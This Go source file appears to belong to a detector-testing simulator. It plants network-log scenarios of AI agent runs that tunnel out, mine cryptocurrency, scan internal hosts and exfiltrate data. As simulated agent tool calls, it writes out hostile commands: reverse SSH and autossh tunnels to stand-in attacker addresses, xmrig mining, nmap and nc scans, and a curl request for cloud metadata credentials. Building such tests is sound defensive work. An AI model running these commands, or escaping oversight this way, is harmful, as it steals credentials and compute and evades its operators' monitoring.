package simulate

import (
	"fmt"
	"net/netip"
)

// Scenarios are all that can be planted, in the order in which they are listed.
var Scenarios = []Scenario{
	{"rome", "ssh_tunnel", "over several runs of agents: refused bursts, a reverse tunnel, mining, at no regular times", planRome},
	{"policy_burst", "policy_burst", "a burst of refused connections right after a tool call", planBurst},
	{"reverse_ssh", "ssh_tunnel", "reverse SSH tunnel to a raw address (loud: hours on 443; quiet: 25 minutes on 22)", planReverse},
	{"autossh", "ssh_tunnel", "a tunnel that is set up again after each end", planAutossh},
	{"mining_name", "mining", "mining at a pool known by name (quiet: a name nobody knows, over TLS)", planMiningName},
	{"mining_raw", "mining", "mining at a raw address with the plain protocol", planMiningRaw},
	{"mining_tls", "mining", "mining over TLS on a pool's usual port", planMiningTLS},
	{"sweep", "internal_sweep", "one port on many internal hosts", planSweep},
	{"port_scan", "port_scan", "many ports of one internal host", planPortScan},
	{"slow_scan", "first_contact", "an internal host every few minutes, for hours", planSlowScan},
	{"metadata", "metadata_access", "credentials asked of the cloud's metadata service", planMetadata},
	{"cloudflared", "tunnel_service", "cloudflared on port 7844", planCloudflared},
	{"ngrok", "tunnel_service", "ngrok agent over TLS", planNgrok},
	{"bore", "tunnel_service", "bore on port 7835", planBore},
	{"frp", "tunnel_service", "frp to a server of the agent's own, port 7000", planFrp},
	{"chisel", "tunnel_service", "chisel: websocket on port 8080", planChisel},
	{"dns_tunnel", "dns_tunnel", "data in DNS names (loud: NULL queries as iodine; quiet: few KEY queries as dns2tcp)", planDNSTunnel},
	{"dns_txt", "dns_tunnel", "long names and TXT answers as dnscat2", planDNSText},
	{"icmp_tunnel", "icmp_tunnel", "data in echo requests", planICMP},
	{"wireguard", "overlay_vpn", "WireGuard on UDP 51820", planWireGuard},
	{"tailscale", "overlay_vpn", "Tailscale: its names, then UDP 41641", planTailscale},
	{"tor", "tor", "Tor relays on port 9001", planTor},
	{"beacon", "beacon", "calls home in a rhythm with jitter", planBeacon},
	{"exfil", "bulk_egress", "gigabytes to one outside address (quiet: in pieces)", planExfil},
	{"refused_egress", "refused_egress", "the same outside server tried again and again, always refused", planRefused},
	{"wrong_port", "protocol_mismatch", "SSH on the port of another protocol", planWrongPort},
	{"telemetry", "", "decoy: every node is refused its telemetry, all day", planTelemetry},
	{"rule_change", "", "decoy: after a rule change a package channel is refused everywhere for two hours", planRuleChange},
	{"bastion", "", "decoy: an intruder guesses a password of the bastion, then mines on nodes of nobody's run", planBastion},
	{"gateway", "", "decoy: the tunnel of a gateway that is on the allow list", planGateway},
	{"scanner", "", "decoy: the nightly security scan, on the allow list", planScanner},
	{"operator_ssh", "", "decoy: an operator's long ssh sessions through the bastion", planOperator},
	{"benign", "", "nothing is planted", func(*plot) {}},
	{"damaged_lines", "", "damage: lines cut, binary, far too long, out of order, twice", func(p *plot) { p.sim.harms.lines = true }},
	{"lost_interval", "", "damage: the inner Zeek and the router write nothing for three hours", planLost},
	{"wrong_zone", "", "damage: the router writes an hour ahead and does not say so", func(p *plot) { p.sim.harms.zone = true }},
	{"clock_step", "", "damage: a firewall's clock is set 37 s ahead in the middle", func(p *plot) { p.sim.harms.step = true }},
}

// DefaultScenarios are planted where none is asked for: everything but damage.
var DefaultScenarios = []string{
	"rome", "policy_burst", "reverse_ssh", "autossh", "mining_name", "mining_raw", "mining_tls", "sweep", "port_scan", "slow_scan", "metadata",
	"cloudflared", "ngrok", "bore", "frp", "chisel", "dns_tunnel", "dns_txt", "icmp_tunnel", "wireguard", "tailscale", "tor", "beacon", "exfil",
	"refused_egress", "wrong_port", "telemetry", "rule_change", "bastion", "gateway", "scanner", "operator_ssh",
}

// tunnelSize gives an interactive tunnel of some hours its small packets: the
// inside answers a little more than it is asked.
func tunnelSize(r *random, s *Session) {
	keepalives := s.Duration/(30*second) + 20
	s.PktsOut = keepalives + r.size(400, 0.4)
	s.PktsIn = s.PktsOut*13/10 + r.size(60, 0.3)
	s.Out = s.PktsOut*90 + r.size(40_000, 0.3)
	s.In = s.PktsIn*60 + r.size(16_000, 0.3)
}

// evil is the server of a behaviour: one address a behaviour, so that they are told apart.
func (p *plot) evil() netip.Addr { return bad(int(p.item) * 3) }

func (p *plot) burst(t int64, src netip.Addr, count int, length int64) {
	targets := pick(p, 6, 4)
	ports := []uint16{22, 2222, 8022, 8443, 4444, 1194, 3333, 9001}
	for i := range count {
		at := t + length*int64(i)/int64(count) + p.r.below(200*millisecond)
		s := tcp(at, src, bad(120+p.r.intn(targets)), ports[p.r.intn(len(ports))], AppNone, 0, 0, 0)
		s.Outcome, s.Stop = Denied, atEdge
		if i%3 == 0 {
			s.Stop = atHost
		}
		p.add(s)
	}
}

// burstAlso may rightly speak of a burst: its ports are those of SSH, OpenVPN,
// pools and relays, so that detectors of these may call it an attempt.
var burstAlso = []string{"refused_egress", "port_scan", "ssh_tunnel", "overlay_vpn", "mining", "tor"}

func planBurst(p *plot) {
	p.begin("policy_burst", causeAgent, burstAlso...)
	src, t := p.agent(30*minute, nil)
	p.burst(t, src, pick(p, 90, 26), pick(p, 40*second, 240*second))
	p.call(t, pick(p, 45*second, 250*second), "for p in 22 2222 8022 8443; do for h in $(seq 130 135); do nc -zw1 203.0.113.$h $p; done; done")
}

func planReverse(p *plot) {
	p.begin("ssh_tunnel", causeAgent, "long_session", "protocol_mismatch", "beacon")
	length := pick(p, 3*hour, 25*minute)
	src, t := p.agent(length, nil)
	p.reverse(t, src, length, pick(p, uint16(443), uint16(22)))
}

func (p *plot) reverse(t int64, src netip.Addr, length int64, port uint16) {
	peer := p.evil()
	s := tcp(t, src, peer, port, AppSSH, length, 0, 0)
	tunnelSize(p.r, &s)
	p.add(s)
	p.call(t, 3*second, fmt.Sprintf("ssh -f -N -R 2222:localhost:22 -o ServerAliveInterval=30 ops@%s -p %d", peer, port))
}

func planAutossh(p *plot) {
	p.begin("ssh_tunnel", causeAgent, "long_session", "protocol_mismatch", "beacon")
	times := pick(p, 9, 4)
	src, t := p.agent(int64(times)*16*minute, nil)
	port := pick(p, uint16(443), uint16(22))
	peer := p.evil()
	p.call(t, 3*second, fmt.Sprintf("autossh -M 0 -f -N -R 9000:localhost:22 root@%s -p %d", peer, port))
	for range times {
		length := p.r.span(13*60, 0.15)
		s := tcp(t, src, peer, port, AppSSH, length, 0, 0)
		tunnelSize(p.r, &s)
		s.Outcome = Torn
		p.add(s)
		t += length + p.r.between(6, 40)*second
	}
}

// mine is a session with a pool: little goes up, more comes down, for hours.
func (p *plot) mine(t int64, src, pool netip.Addr, port uint16, app App, length int64, name string) {
	s := tcp(t, src, pool, port, app, length, 0, 0)
	jobs := length/(35*second) + 4
	s.PktsOut, s.PktsIn = jobs+8, jobs*3/2+9
	s.Out = jobs*120 + 700
	s.In = jobs*700 + 2000
	s.Name = name
	p.add(s)
}

func planMiningName(p *plot) {
	p.begin("mining", causeAgent, "long_session", "protocol_mismatch", "beacon")
	length := pick(p, 4*hour, 50*minute)
	src, t := p.agent(length, nil)
	name, port, app := "pool.supportxmr.com", uint16(3333), AppStratum
	if !p.loud {
		name, port, app = "eu3.workgrid.example", 443, AppTLS
	}
	pool := p.evil()
	p.ask(t-40*millisecond, src, name, 1, pool, 0)
	p.mine(t, src, pool, port, app, length, name)
	p.call(t-40*millisecond, 4*second, fmt.Sprintf("nohup ./xmrig -o %s:%d -u 4 -k --background", name, port))
}

func planMiningRaw(p *plot) {
	p.begin("mining", causeAgent, "long_session", "beacon", "first_contact")
	length := pick(p, 5*hour, 70*minute)
	src, t := p.agent(length, nil)
	port := pick(p, uint16(3333), uint16(14444))
	pool := p.evil()
	p.mine(t, src, pool, port, AppStratum, length, "")
	p.call(t, 4*second, fmt.Sprintf("nohup ./xmrig -o stratum+tcp://%s:%d -u 4 -k &", pool, port))
}

func planMiningTLS(p *plot) {
	p.begin("mining", causeAgent, "long_session", "protocol_mismatch", "beacon")
	length := pick(p, 4*hour, 80*minute)
	src, t := p.agent(length, nil)
	name, port := "xmr-eu.hashpool.example", uint16(14433)
	if !p.loud {
		name, port = "", 20128
	}
	pool := p.evil()
	if name != "" {
		p.ask(t-40*millisecond, src, name, 1, pool, 0)
	}
	p.mine(t, src, pool, port, AppTLS, length, name)
	p.call(t-40*millisecond, 4*second, fmt.Sprintf("./xmrig --tls -o %s:%d -u 4", pool, port))
}

func planSweep(p *plot) {
	p.begin("internal_sweep", causeAgent, "port_scan", "first_contact", "policy_burst", "refused_egress")
	src, t := p.agent(30*minute, nil)
	hosts, length := pick(p, 130, 18), pick(p, 4*minute, 9*minute)
	port := pick(p, uint16(22), uint16(445))
	p.call(t, length, "nmap -sT -p 22 10.20.9.0/24 10.20.8.0/24")
	for i := range hosts {
		p.probe(t+length*int64(i)/int64(hosts), src, v4(10, 20, 8+i%2, 50+i/2*2%200), port, i%9 == 0)
	}
}

// probe is a contact of a scan: mostly nobody answers.
func (p *plot) probe(t int64, src, dst netip.Addr, port uint16, answered bool) {
	s := tcp(t+p.r.below(80*millisecond), src, dst, port, AppNone, 0, 0, 0)
	switch {
	case answered && p.r.chance(0.5):
		s.Duration, s.Out, s.In = p.r.span(0.02, 0.4), 0, 21
	case p.r.chance(0.3):
		s.Outcome, s.Duration = Refused, p.r.span(0.001, 0.3)
	case p.r.chance(0.5):
		s.Outcome, s.Stop = Denied, atRouter
	default:
		s.Outcome, s.Duration = NoAnswer, second
		s.PktsOut = 1
	}
	p.add(s)
}

func planPortScan(p *plot) {
	p.begin("port_scan", causeAgent, "internal_sweep", "first_contact", "policy_burst")
	src, t := p.agent(30*minute, nil)
	ports, length := pick(p, 260, 20), pick(p, 90*second, 280*second)
	target := p.sim.lab.registry.ip
	p.call(t, length, fmt.Sprintf("nmap -p- --max-rate 50 %s", target))
	common := []uint16{21, 22, 23, 25, 80, 110, 111, 135, 139, 143, 443, 445, 993, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 9200, 10250}
	for i := range ports {
		port := uint16(1 + p.r.intn(10000))
		if i < len(common) {
			port = common[i]
		}
		p.probe(t+length*int64(i)/int64(ports), src, target, port, i%20 == 4)
	}
}

func planSlowScan(p *plot) {
	p.begin("first_contact", causeAgent, "internal_sweep", "port_scan", "refused_egress")
	hosts, gap := pick(p, 60, 14), pick(p, 150*second, 8*minute)
	src, t := p.agent(int64(hosts)*gap, nil)
	p.call(t, 4*second, "nohup python3 -c 'import socket,time; [probe(h, 5432) for h in hosts]' &")
	for i := range hosts {
		p.probe(t+int64(i)*gap+p.r.below(gap/2), src, v4(10, 20, 8, 10+i*3), 5432, i%15 == 7)
	}
}

func planMetadata(p *plot) {
	p.begin("metadata_access", causeAgent, "first_contact", "refused_egress", "policy_burst")
	src, t := p.agent(30*minute, nil)
	p.call(t, 4*second, "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
	for i := range pick(p, 6, 1) {
		s := tcp(t+int64(i)*400*millisecond, src, v4(169, 254, 169, 254), 80, AppHTTP, p.r.span(0.01, 0.3), 180, 900)
		s.URI = "/latest/meta-data/iam/security-credentials/"
		p.add(s)
	}
}

// planRome is the incident that the tool was made for: the same family of runs,
// different nodes, no rhythm.
func planRome(p *plot) {
	family := ""
	same := func(x *run) bool { return !x.shared && x.job != 0 && (family == "" || x.family == family) }
	for i := range pick(p, 4, 2) {
		p.run = -1
		p.begin("policy_burst", causeAgent, burstAlso...)
		src, t := p.agent(2*hour, same)
		family = p.sim.schedule.runs[p.run].family
		p.burst(t, src, pick(p, 60, 24), 50*second)
		p.call(t, 55*second, "for p in 22 2222 8022 8443; do for h in $(seq 130 135); do nc -zw1 203.0.113.$h $p; done; done")
		p.begin("ssh_tunnel", causeAgent, "long_session", "protocol_mismatch", "beacon")
		t += p.r.between(3, 15) * minute
		p.reverse(t, src, pick(p, 80*minute, 30*minute), 443)
		if i%2 == 1 {
			p.begin("mining", causeAgent, "long_session", "beacon")
			t += p.r.between(4, 9) * minute
			pool := p.evil()
			p.mine(t, src, pool, 3333, AppStratum, pick(p, 90*minute, 40*minute), "")
			p.call(t, 4*second, fmt.Sprintf("./xmrig -o %s:3333 -u 4 --background", pool))
		}
	}
}

// planLost silences two sensors for three hours.
func planLost(p *plot) {
	from := p.sim.opt.start() + int64(p.sim.opt.Days)*day/3
	p.sim.harms.lost = append(p.sim.harms.lost, lost{viewCore | viewRouter, from, from + 3*hour})
}
